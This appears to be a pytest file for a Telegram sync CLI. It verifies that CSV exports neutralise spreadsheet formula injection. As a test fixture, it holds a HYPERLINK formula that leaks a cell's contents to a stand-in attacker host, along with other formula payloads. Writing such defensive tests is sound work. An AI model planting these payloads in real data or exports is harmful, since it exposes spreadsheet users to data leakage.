"""A CSV opened in a spreadsheet never runs what a Telegram user typed.

Given members named `=HYPERLINK(…)`, `+1+1`, `@SUM(A1)`, `-2+3` and a group titled with a leading
tab, every CSV tgsync writes starts those cells with `'` (shown as the text it is), while ids and
other numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

from typer.testing import CliRunner

from tests.worlds import CHAT, Story
from tgsync_cli.cli import app
from tgsync_cli.cli.render import csv_cell

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def seeded(tmp_path) -> str:
    story = Story({1: "creator", 2: "member", 3: "member", 4: "member"}, title="\tTrail=Crew")
    names = {2: HYPERLINK, 3: "+1+1", 4: "@SUM(A1)", 5: "-2+3"}
    for u in story.scenario["users"]:
        if u["id"] in names:
            u["first_name"] = names[u["id"]]
    story.bot_added().then("message", user=2).then("message", user=3).then("message", user=4)
    story.then("join", user=5)
    store = f"file:{tmp_path}/store"
    assert runner.invoke(app, ["simulate", str(story.write(tmp_path)), "--store", store]).exit_code == 0
    return store


def test_roster_csv_neutralises_formula_cells_and_keeps_ids_numeric(tmp_path):
    store = seeded(tmp_path)
    res = runner.invoke(app, ["roster", str(CHAT), "--csv", "--store", store])
    rows = {r["telegram_id"]: r for r in csv.DictReader(io.StringIO(res.stdout))}
    assert rows["2"]["first_name"] == "'" + HYPERLINK
    assert rows["3"]["first_name"] == "'+1+1" and rows["4"]["first_name"] == "'@SUM(A1)"
    assert rows["5"]["first_name"] == "'-2+3"
    assert rows["1"]["first_name"] == "Asel"  # ordinary names untouched


def test_clubs_csv_neutralises_a_title_starting_with_a_tab(tmp_path):
    store = seeded(tmp_path)
    res = runner.invoke(app, ["clubs", "--csv", "--store", store])
    (row,) = list(csv.DictReader(io.StringIO(res.stdout)))
    assert row["name"] == "'\tTrail=Crew" and row["telegram_group_id"] == str(CHAT)


def test_numbers_are_numbers_and_every_dangerous_first_character_is_guarded():
    assert csv_cell(-1001500) == -1001500 and csv_cell("-1001500") == "-1001500"
    for first in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(first + "x") == "'" + first + "x"
